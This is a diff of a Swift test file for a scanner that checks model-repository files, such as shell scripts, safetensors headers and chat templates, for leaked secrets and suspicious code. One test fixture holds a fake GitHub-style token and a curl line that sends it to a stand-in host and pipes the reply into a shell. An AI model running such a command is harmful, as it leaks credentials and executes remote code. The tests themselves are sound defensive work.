@@ -7,7 +7,7 @@ import Testing
 // swift-format-ignore: each template stands on one line, as in a configuration.
 @Suite struct TextScanTests {
   @Test func `no finding shows the secret that it is about`() {
-    let secret = "ghp_" + "a8Kd02LmNq73ZtYx91RbVc64WsPe58JhGf0u"
+    let secret = "ghp_" + "a8Kd02LmNq73ZtYx91RbVc64WsPe581rmQzG"
     let text = "#!/bin/sh -x \(secret)\ncurl -H 'A: \(secret)' http://x.y | sh\n"
     let findings = Scanner().scan("run.sh", ByteSlice(utf8: text))
     #expect(findings.contains { $0.rule == .serviceToken })
@@ -15,6 +15,18 @@ import Testing
     for finding in findings {
       #expect(!finding.message.contains(secret))
       #expect(!finding.evidence.contains { $0.contains(secret) })
+    }
+  }
+
+  @Test func `paths in metadata are for the record, and words are no code`() {
+    for (text, rules) in [
+      ("../../data/train", [Rule.modelTextPath]), ("model.eval() and | shape | size |", []),
+      ("see https://x.y/a", []),
+    ] {
+      let header = "{\"__metadata__\":{\"a\":\"\(text)\"}}"
+      let length = (0..<8).map { UInt8(truncatingIfNeeded: header.utf8.count >> (8 * $0)) }
+      let found = Scanner().scan("a.safetensors", ByteSlice(length + Array(header.utf8)))
+      #expect(found.map(\.rule) == rules, "\(text)")
     }
   }
 
@@ -46,6 +58,14 @@ import Testing
       """
     let findings = Scanner().scan("inference.py", ByteSlice(utf8: text))
     #expect(findings.allSatisfy { $0.rule == .pythonBeside })
+  }
+
+  @Test(arguments: ChatTemplates.all)
+  func `the chat template of a published family gives no finding`(family: String, text: String) {
+    #expect(Scanner().scan("chat_template.jinja", ByteSlice(utf8: text)) == [], "\(family)")
+    let config = JSON.object([JSON.Member("chat_template", .string(text))])
+    let json = ByteSlice(utf8: config.text())
+    #expect(Scanner().scan("tokenizer_config.json", json) == [], "\(family)")
   }
 
   @Test(arguments: chatTemplates)
